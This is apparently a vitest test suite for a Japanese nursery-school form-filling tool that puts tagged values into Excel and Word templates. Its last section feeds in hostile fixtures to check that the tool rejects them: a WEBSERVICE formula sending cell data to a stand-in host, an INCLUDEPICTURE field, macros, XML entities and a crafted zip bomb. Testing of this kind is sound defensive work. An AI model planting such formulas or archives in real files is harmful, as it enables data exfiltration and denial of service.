import { readXlsx } from 'hucre/xlsx'
import { describe, expect, test } from 'vitest'
import type { Filling, Tags } from '../../schema/kit/form-file/tag.ts'
import { checkForm, fillForm, openForm } from '../../worker/kit/form-file.ts'
import { archive, book, paragraph, relation, table, tableRow, WORD_MAIN, wordParts } from './form-files.ts'
import { readZip } from './read-zip.ts'

const tags: Tags = {
  values: ['園名', '今月の行事', '状態'],
  tables: { 個人目標: ['氏名', '子どもの姿', '日数'] },
  required: ['状態'],
}
const children: Filling['tables'][string] = [
  { 氏名: '髙﨑 葵', 子どもの姿: '=1+1 と書いた\n水たまり😀に <手> を入れる', 日数: 3 },
  { 氏名: '森 蓮', 子どもの姿: '_x0041_ のまま', 日数: 4 },
  { 氏名: '小林 凪', 子どもの姿: '', 日数: 0 },
]
const filling: Filling = {
  values: { 園名: 'つむぎ保育園', 今月の行事: '=SUM(A1)', 状態: '下書き' },
  tables: { 個人目標: children },
}
const decode = (bytes?: Uint8Array) => new TextDecoder().decode(bytes)
const partIn = (bytes: Uint8Array, name: string) => decode(readZip(bytes).get(name))
const fill = async (bytes: Uint8Array, given = filling) => fillForm(await openForm(bytes), given, 0)
const refused = async (bytes: Uint8Array | Promise<Uint8Array>) =>
  openForm(await bytes).then(
    () => '',
    (error: Error) => error.message,
  )

describe('RG02 RO02 a form of the house’s own in Excel', () => {
  const rows = [
    ['{{園名}} 月案', '', '', '｛｛状態｝｝'],
    ['行事', '{{ 今月の行事 }}', '', ''],
    ['氏名', '姿', '日数', ''],
    ['{{個人目標：氏名}}', '{{個人目標:子どもの姿}}', '{{個人目標：日数}}', { formula: 'C4*2' }],
    ['計', '', { formula: 'SUM(C4:C4)' }, ''],
    ['備考', '', '', ''],
  ]
  const merges = [
    { startRow: 0, startCol: 0, endRow: 0, endCol: 2 },
    { startRow: 5, startCol: 1, endRow: 5, endCol: 3 },
  ]

  test('a row is repeated for each child; texts stay texts with their letters and lines, numbers stay numbers', async () => {
    const bytes = await fill(await book({ rows, merges }))
    const [sheet] = (await readXlsx(bytes)).sheets
    expect(sheet?.rows.map((row) => row.slice(0, 3))).toMatchObject(
      [
        ['つむぎ保育園 月案', null, null],
        ['行事', '=SUM(A1)', null],
        ['氏名', '姿', '日数'],
        ['髙﨑 葵', '=1+1 と書いた\n水たまり😀に <手> を入れる', 3],
        ['森 蓮', expect.stringContaining('_x0041_'), 4],
        ['小林 凪', null, 0],
        ['計', null, null],
        ['備考', null, null],
      ].map((row) => row.map((value) => (value === null ? expect.toSatisfy((one) => one === null || one === '') : value))),
    )
    const xml = partIn(bytes, 'xl/worksheets/sheet1.xml')
    expect([...xml.matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map(([, text]) => text)).toEqual(['C4*2', 'C5*2', 'C6*2', 'SUM(C4:C6)'])
    expect(xml).not.toContain('{{')
    expect(xml).toContain('_x005F_x0041_')
  })

  test('what stands below moves down, merged cells and the print area with it; widths and boxes stay as they were', async () => {
    const given = await book({ rows, merges })
    const before = decode((await openForm(given)).parts.get('xl/worksheets/sheet1.xml'))
    const bytes = await fill(given)
    const xml = partIn(bytes, 'xl/worksheets/sheet1.xml')
    expect([...xml.matchAll(/mergeCell ref="([^"]+)"/g)].map(([, range]) => range)).toEqual(['A1:C1', 'B8:D8'])
    expect(partIn(bytes, 'xl/workbook.xml')).toContain('月案!$A$1:$D$8')
    const cols = /<cols>.*<\/cols>/s.exec(before)?.[0]
    expect(cols).toBeDefined()
    expect(xml).toContain(cols)
    const setup = /<pageSetup[^>]*>/.exec(before)?.[0]
    expect(xml).toContain(setup)
    // The cells of the repeated rows look as the one of the form does.
    const styleOf = (text: string, cell: string) =>
      new RegExp(`<c r="${cell}"[^>]* s="(\\d+)"`).exec(text.replace(/<c ([^>]*?)s="(\d+)"([^>]*)/g, '<c $1$3 s="$2"'))?.[1]
    for (const cell of ['A4', 'A5', 'A6']) expect(styleOf(xml, cell)).toBe(styleOf(before, 'A4'))
    // A text that begins like a formula wears Excel's apostrophe, one with lines shows them; the rest of the style is the cell's.
    const styles = partIn(bytes, 'xl/styles.xml')
    expect(styles.match(/quotePrefix="1"/g)).toHaveLength(2)
    expect(styles).toContain('wrapText="1"')
  })

  test('several rows of a child go together with their merged name, and a sum over them grows', async () => {
    const bytes = await fill(
      await book({
        rows: [
          ['{{個人目標：氏名}}', '登園', '{{個人目標：日数}}', '{{状態}}'],
          ['', '降園', { formula: 'C1+1' }, ''],
          ['計', '', { formula: 'SUM(C1:C2)' }, { formula: 'IF("C1:C2"="",1,$C$1)' }],
        ],
        merges: [{ startRow: 0, startCol: 0, endRow: 1, endCol: 0 }],
      }),
    )
    const xml = partIn(bytes, 'xl/worksheets/sheet1.xml')
    expect([...xml.matchAll(/mergeCell ref="([^"]+)"/g)].map(([, range]) => range)).toEqual(['A1:A2', 'A3:A4', 'A5:A6'])
    expect([...xml.matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map(([, text]) => text?.replaceAll('&quot;', '"'))).toEqual([
      ...['C1+1', 'C3+1', 'C5+1', 'SUM(C1:C6)', 'IF("C1:C2"="",1,$C$1)'],
    ])
  })

  test('a text that Excel keeps in runs, with furigana, is read without it and filled in the looks of its runs', async () => {
    const { parts } = await openForm(await book({ rows: [['園名', '{{状態}}']] }))
    const strings =
      '<sst><si><r><rPr><b/></rPr><t>{{園</t></r><r><t>名}}だより</t></r><rPh sb="0" eb="1"><t>エン</t></rPh></si></sst>'
    const cell =
      '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>{{状態}}</t></is></c></row></sheetData>'
    const sheet = decode(parts.get('xl/worksheets/sheet1.xml')).replace(/<sheetData>.*<\/sheetData>/s, cell)
    const rich = await archive({
      ...Object.fromEntries(parts),
      ...{ 'xl/sharedStrings.xml': strings, 'xl/worksheets/sheet1.xml': sheet },
    })
    const filled = partIn(await fill(rich), 'xl/worksheets/sheet1.xml')
    expect(filled).toContain(
      '<r><rPr><b/></rPr><t xml:space="preserve">つむぎ保育園</t></r><r><t xml:space="preserve">だより</t></r></is>',
    )
    expect(filled).not.toContain('エン')
  })

  test('a class without children keeps its row, empty', async () => {
    const bytes = await fill(await book({ rows, merges }), { ...filling, tables: { 個人目標: [] } })
    const [sheet] = (await readXlsx(bytes)).sheets
    expect(sheet?.rows).toHaveLength(6)
    expect(partIn(bytes, 'xl/worksheets/sheet1.xml')).not.toContain('{{')
  })
})

describe('RG02 RO02 a form of the house’s own in Word', () => {
  const form = (...body: string[]) => archive(wordParts(body.join('')))

  test('a tag that Word cut into pieces is one tag, and what stands there looks as where it began', async () => {
    const bytes = await fill(await form(paragraph('園名：{', '{園', '名}', '} です'), paragraph('{{状態}}')))
    const xml = partIn(bytes, 'word/document.xml')
    expect(xml).toContain('<w:t xml:space="preserve">園名：つむぎ保育園</w:t>')
    expect(xml).toContain('<w:t xml:space="preserve"> です</w:t>')
    expect(xml.match(/<w:b\/>/g)).toHaveLength(5)
  })

  test('a row of a table is repeated for each child, with lines, emoji and signs of XML as they were written', async () => {
    const bytes = await fill(
      await form(
        table(tableRow('氏名', '姿'), tableRow('{{個人目標：氏名}}', '{{個人目標：子どもの姿}}')),
        paragraph('{{状態}}'),
      ),
    )
    const xml = partIn(bytes, 'word/document.xml')
    expect(xml.match(/<w:tr>/g)).toHaveLength(4)
    expect(xml.match(/<w:cantSplit\/>/g)).toHaveLength(4)
    expect(xml).toContain('=1+1 と書いた</w:t><w:br/><w:t xml:space="preserve">水たまり😀に &lt;手&gt; を入れる')
    expect(xml).toContain('髙﨑 葵')
    expect(xml.match(/paraId/g)).toHaveLength(2 + 2 + 1)
  })

  test('headers and footers are filled too', async () => {
    const header = '<w:hdr xmlns:w="x"><w:p><w:r><w:t>{{園名}}</w:t></w:r></w:p></w:hdr>'
    const bytes = await fill(
      await archive(wordParts(paragraph('{{状態}}'), { 'word/header1.xml': header }, relation('rId9', 'header', 'header1.xml'))),
    )
    expect(partIn(bytes, 'word/header1.xml')).toContain('つむぎ保育園')
  })
})

describe('RG02 RO02 what is wrong with a form is said with its tag and its place', () => {
  const faultsOf = async (bytes: Uint8Array) => checkForm(await openForm(bytes), tags).faults.map(({ message }) => message)

  test('in Excel', async () => {
    const at = async (...rows: string[][]) => faultsOf(await book({ rows: [...rows, ['{{状態}}']] }))
    expect(await at(['{{今月の行時}}'])).toEqual([
      'シート「月案」A1「{{今月の行時}}」: この書類にないタグです。タグの一覧から写してください。',
    ])
    expect(await at(['', '{{今月の行事'])).toEqual([
      'シート「月案」B1「{{今月の行事」: {{ と }} がそろっていません。タグを書きなおしてください。',
    ])
    expect(await at(['{{}}'])).toEqual(['シート「月案」A1「{{}}」: 名前がありません。'])
    expect(await at(['{{個人目標：なまえ}}'])).toHaveLength(1)
    expect(await faultsOf(await book({ rows: [['{{園名}}']] }))).toEqual(['「{{状態}}」がありません。どこかに入れてください。'])
    const { missing } = checkForm(await openForm(await book({ rows: [['{{園名}}', '{{状態}}']] })), tags)
    expect(missing).toEqual(['{{今月の行事}}', '{{個人目標：氏名}}', '{{個人目標：子どもの姿}}', '{{個人目標：日数}}'])
  })

  test('in Word, also a row’s tag outside a table and a tag in a comment', async () => {
    const at = async (body: string, more = {}) => faultsOf(await archive(wordParts(body + paragraph('{{状態}}'), more)))
    expect(await at(paragraph('{{個人目標：', '氏名}}'))).toEqual([
      '本文の1番目の段落「{{個人目標：氏名}}」: 子どもや行でくりかえすタグは、表の行の中に書いてください。',
    ])
    expect(await at(paragraph('{{園名}'))).toHaveLength(1)
    expect(await at('', { 'word/comments.xml': `<w:comments>${paragraph('{{園名}}')}</w:comments>` })).toEqual([
      '図形やコメントの中の「{{園名}}」: ここには入れられません。セルや本文に書いてください。',
    ])
  })
})

describe('RO02 a file that does more than hold a form is not taken', () => {
  test('macros, links, what is embedded, fields and functions that reach outside', async () => {
    const word = (more: Record<string, string>, relations = '', body = paragraph('{{状態}}')) =>
      refused(archive(wordParts(body, more, relations)))
    expect(await word({})).toBe('')
    expect(await word({ 'word/vbaProject.bin': '\u0000' })).toContain('マクロ')
    const types = (wordParts('')['[Content_Types].xml'] ?? '').replace(
      WORD_MAIN,
      'application/vnd.ms-word.document.macroEnabled.main+xml',
    )
    expect(await word({ '[Content_Types].xml': types })).toContain('マクロ')
    expect(await word({}, relation('r', 'hyperlink', 'https://example.com/', ' TargetMode="External"'))).toContain('example.com')
    expect(await word({}, relation('r', 'attachedTemplate', 'a.dotx'))).toContain('埋めこまれて')
    expect(await word({ 'word/embeddings/oleObject1.bin': '\u0000' })).toContain('oleObject1.bin')
    const field =
      '<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://x"</w:instrText></w:r></w:p>'
    expect(await word({}, '', field)).toContain('INCLUDEPICTURE')
    const calls = await book({ rows: [['{{状態}}', { formula: '_xlfn.WEBSERVICE("http://x?"&A1)' }]] })
    expect(await refused(calls)).toContain('WEBSERVICE')
  })

  test('what is no such file, is broken, has entities, or unpacks to too much', async () => {
    expect(await refused(new TextEncoder().encode('%PDF-1.7'))).toContain('ではありません')
    expect(await refused(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]))).toContain('古い形式')
    expect(await refused((await book({ rows: [['{{状態}}']] })).subarray(0, 900))).toContain('こわれて')
    expect(await refused(archive({ 'a.txt': 'a' }))).toContain('ではありません')
    expect(await refused(archive(wordParts('<w:p>')))).toContain('こわれて')
    expect(await refused(archive(wordParts('', { 'word/x.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' })))).toContain(
      'こわれて',
    )
    expect(await refused(archive(wordParts('<w:p>'.repeat(400) + '</w:p>'.repeat(400))))).toContain('こわれて')
    const heavy = await archive(wordParts(''))
    const view = new DataView(heavy.buffer)
    for (let at = 0; at < heavy.length - 46; at++)
      if (view.getUint32(at, true) === 0x02014b50) {
        view.setUint16(at + 10, 8, true)
        view.setUint32(at + 24, 9_000_000, true)
      }
    expect(await refused(heavy)).toContain('大きすぎる')
    expect(await refused(new Uint8Array([0x50, 0x4b, 3, 4, ...new Uint8Array(1_100_000)]))).toContain('1MB')
  })
})
